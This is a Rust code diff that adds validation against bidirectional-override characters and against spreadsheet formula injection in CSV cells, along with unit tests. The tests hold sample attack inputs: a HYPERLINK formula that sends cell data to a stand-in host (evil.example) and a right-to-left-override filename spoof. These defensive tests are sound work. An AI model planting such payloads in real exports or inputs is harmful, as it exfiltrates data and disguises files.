@@ -46,7 +46,20 @@ fn within_limit(field: &str, value: &str, max: usize) -> Result<String, Validati
             "must not contain control characters",
         ));
     }
+    if value.chars().any(is_bidi_control) {
+        return Err(ValidationError::new(
+            field,
+            "must not contain direction controls (U+202A–U+202E, U+2066–U+2069): they make text read other than it is",
+        ));
+    }
     Ok(value.to_owned())
+}
+
+/// The embeddings, overrides and isolates that reorder what follows them: a
+/// name with U+202E reads backwards on a certificate or in an SMS. The plain
+/// marks (U+200E, U+200F) change no order and stay allowed for Persian text.
+pub fn is_bidi_control(c: char) -> bool {
+    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
 }
 
 /// Tags: each a short label, lower-cased, without duplicates, at most 50 of them.
@@ -62,6 +75,35 @@ pub fn tags(field: &str, values: &[String]) -> Result<Vec<String>, ValidationErr
         }
     }
     Ok(out)
+}
+
+/// One CSV cell (RFC 4180) that a person will open in a spreadsheet: text that
+/// a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, a tab or a carriage
+/// return first) gets a leading `'`, so `=HYPERLINK(…)` in a customer's name
+/// shows as text; plain numbers (`-12.5`) stay numbers. The owner's raw export
+/// does not use this: it gives back what is stored.
+pub fn spreadsheet_cell(value: &str) -> String {
+    let formula = value.starts_with(['=', '+', '@', '\t', '\r'])
+        || (value.starts_with('-') && !is_plain_number(value));
+    let value = if formula {
+        format!("'{value}")
+    } else {
+        value.to_owned()
+    };
+    if value.contains([',', ';', '"', '\n', '\r']) {
+        format!("\"{}\"", value.replace('"', "\"\""))
+    } else {
+        value
+    }
+}
+
+/// `-12`, `-12.50`: digits with at most one point, nothing a spreadsheet reads as more.
+fn is_plain_number(value: &str) -> bool {
+    let digits = value.strip_prefix('-').unwrap_or(value);
+    !digits.is_empty()
+        && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
+        && digits.matches('.').count() <= 1
+        && digits.chars().any(|c| c.is_ascii_digit())
 }
 
 /// Lower-cased words for substring search, so every backend searches alike.
@@ -101,6 +143,32 @@ mod tests {
         let t = tags("tags", &["VIP".into(), "vip".into(), " Kyiv ".into()]).unwrap();
         assert_eq!(t, vec!["vip", "kyiv"]);
         assert_eq!(tags("tags", &["".into()]).unwrap_err().field, "tags[0]");
+    }
+
+    #[test]
+    fn spreadsheet_cells_never_run_as_formulas() {
+        assert_eq!(
+            spreadsheet_cell("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click\"\")\""
+        );
+        for risky in ["+380671234567", "@SUM(A1)", "-2+3", "\tcmd", "\r=1", "-"] {
+            assert!(
+                spreadsheet_cell(risky)
+                    .trim_start_matches('"')
+                    .starts_with('\''),
+                "{risky:?}"
+            );
+        }
+        assert_eq!(spreadsheet_cell("-12.50"), "-12.50");
+        assert_eq!(spreadsheet_cell("Кав'ярня, Київ"), "\"Кав'ярня, Київ\"");
+        assert_eq!(spreadsheet_cell("plain"), "plain");
+    }
+
+    #[test]
+    fn direction_overrides_are_refused() {
+        assert!(required("name", "Evil\u{202E}gnp.exe", SHORT).is_err());
+        assert!(optional("address_line1", Some("a\u{2067}b"), LINE).is_err());
+        assert!(required("name", "آب\u{200F}", SHORT).is_ok());
     }
 
     #[test]
